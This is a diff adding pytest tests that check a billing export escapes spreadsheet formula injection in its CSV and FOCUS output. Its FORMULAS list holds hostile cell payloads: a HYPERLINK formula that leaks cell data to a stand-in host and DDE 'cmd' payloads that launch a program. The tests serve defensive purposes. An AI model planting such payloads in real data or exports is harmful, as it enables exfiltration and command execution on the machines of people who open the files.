@@ -20,7 +20,7 @@ from pathlib import Path
 import pytest
 import redis
 
-from extproc.books.export import FOCUS_COLUMNS, focus_row, write
+from extproc.books.export import FOCUS_COLUMNS, FORMULA_LEADS, cell, focus_row, write
 from extproc.books.records import RecordFilter, records_between, total_nanos
 from extproc.books.shipper import Shipper, read_shipped
 from extproc.devstack.stack import Child
@@ -140,6 +140,62 @@ def test_focus_row_carries_attribution_and_periods() -> None:
         "model": "gpt-5-2025-08-07",
     }
     assert Decimal(row["BilledCost"]) == Decimal(1_234_567 + 840).scaleb(-9)
+
+
+# Cells a spreadsheet evaluates, as a hostile client would plant them in its own fields.
+FORMULAS = (
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "=cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+def hostile_record(n: int, formula: str, cost: int) -> UsageRecord:
+    """Every text field carries `formula` (the request id stays unique)."""
+    r = record(n, cost=cost)
+    for field in r.DESCRIPTOR.fields:
+        if field.type == field.TYPE_STRING and field.name != "request_id":
+            setattr(r, field.name, formula)
+    return r
+
+
+def spreadsheet_would_evaluate(text: str) -> bool:
+    return text.startswith(FORMULA_LEADS) and cell(text) != text
+
+
+@pytest.mark.parametrize("fmt", ["csv", "focus"])
+def test_no_exported_cell_is_a_formula_and_negative_amounts_stay_numbers(fmt: str) -> None:
+    records = [hostile_record(n, f, cost=-(n + 1) * 250_000_000) for n, f in enumerate(FORMULAS)]
+    records.append(record(99, cost=10**9))
+    out = io.StringIO()
+    assert write(records, fmt, out) == len(records)
+    rows = list(csv.reader(io.StringIO(out.getvalue())))
+    header, body = rows[0], rows[1:]
+    assert len(body) == len(records)  # a carriage return in a cell split no row
+    assert {len(row) for row in body} == {len(header)}
+    cells = [c for row in body for c in row]
+    assert not [c for c in cells if spreadsheet_would_evaluate(c)]
+    # What the client wrote is still there to read, one apostrophe in front.
+    for formula in FORMULAS:
+        assert "'" + formula in cells
+    # An adjustment's negative amount is a bare number, and the column sums to the ledger.
+    money = header.index("cost_usd" if fmt == "csv" else "BilledCost")
+    assert body[0][money] == "-0.25"
+    assert sum(Decimal(row[money]) for row in body) == Decimal(total_nanos(records)).scaleb(-9)
+    if fmt == "csv":
+        nanos = header.index("cost_nanos")
+        assert sum(int(row[nanos]) for row in body) == total_nanos(records)
+
+
+def test_cell_leaves_numbers_and_plain_text_alone() -> None:
+    for value in ("-0.000000001", "-12", "12.5", "gpt-5", "", "a=b", " =1", 7, -7, True):
+        assert cell(value) == value
+    for value in ("-", "-1e5", "-1-1", "--1", "=1", "+1", "@x", "\t1", "\r1"):
+        assert cell(value) == "'" + value
 
 
 # --- the shipper ------------------------------------------------------------------------------
